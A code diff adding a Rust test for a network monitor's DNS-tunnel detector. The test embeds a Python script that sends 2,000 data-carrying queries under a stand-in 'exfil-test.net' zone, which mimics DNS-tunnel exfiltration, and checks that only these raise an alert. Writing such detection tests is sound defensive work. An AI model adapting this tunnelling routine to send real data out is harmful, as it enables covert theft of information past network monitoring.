@@ -198,6 +198,35 @@ fn a_name_claimed_in_sni_does_not_allowlist_and_one_this_host_resolved_does() {
     assert!(unsolicited.unwrap_or(0) >= 1, "{err}");
 }
 
+#[test]
+fn thousands_of_data_carrying_queries_under_one_zone_are_a_dns_tunnel_and_repeated_lookups_are_not() {
+    require_root();
+    let host = TestHost::create().unwrap();
+    let sluice = Sluice::start(&["--tick", "1s", "--probe", "cgroup"]).unwrap();
+    // 2,000 queries whose first label is 30 bytes of data in hex (iodine-like),
+    // to the test host's port 53; and 300 ordinary lookups of one name.
+    let query = "def q(name, i):\n    m = bytes([i >> 8 & 255, i & 255, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0])\n    for l in name.split('.'):\n        m += bytes([len(l)]) + l.encode()\n    return m + bytes([0, 0, 1, 0, 1])\n";
+    let tunnel = format!(
+        "import os,socket\n{query}s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\nfor i in range(2000):\n    s.sendto(q(os.urandom(30).hex() + '.' + str(i) + '.t.exfil-test.net', i), ('{}', 53))\n",
+        host.peer_v4
+    );
+    let lookups = format!(
+        "import socket\n{query}s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\nfor i in range(300):\n    s.sendto(q('www.example.org', i), ('{}', 53))\n",
+        host.peer_v4
+    );
+    let t = run_child(Command::new("/usr/bin/python3").args(["-c", &tunnel]), Duration::from_secs(60)).unwrap();
+    let benign = run_child(Command::new("/usr/bin/python3").args(["-c", &lookups]), Duration::from_secs(60)).unwrap();
+    let recs = sluice
+        .wait_for("the tunnel alert", Duration::from_secs(20), |r| alerts_of(r, "sluice.dns_tunnel").iter().any(|a| a["process"]["pid"] == t))
+        .unwrap();
+    std::thread::sleep(Duration::from_secs(2));
+    let all = sluice.stop().unwrap();
+    let a = alerts_of(&recs, "sluice.dns_tunnel").into_iter().find(|a| a["process"]["pid"] == t).unwrap().clone();
+    assert!(a["event"]["reason"].as_str().unwrap().contains("under exfil-test.net"), "{a}");
+    assert_eq!(a["threat"]["technique"]["id"][0], "T1048.003");
+    assert!(alerts_of(&all, "sluice.dns_tunnel").iter().all(|a| a["process"]["pid"] != benign), "repeated lookups are no tunnel");
+}
+
 /// Wait for a flow record named `name` and return it.
 fn wait_for_named(sluice: &Sluice, name: &str) -> Value {
     let named = |r: &Value| r["event"]["action"] == "flow-summary" && r["destination"]["domain"] == name;
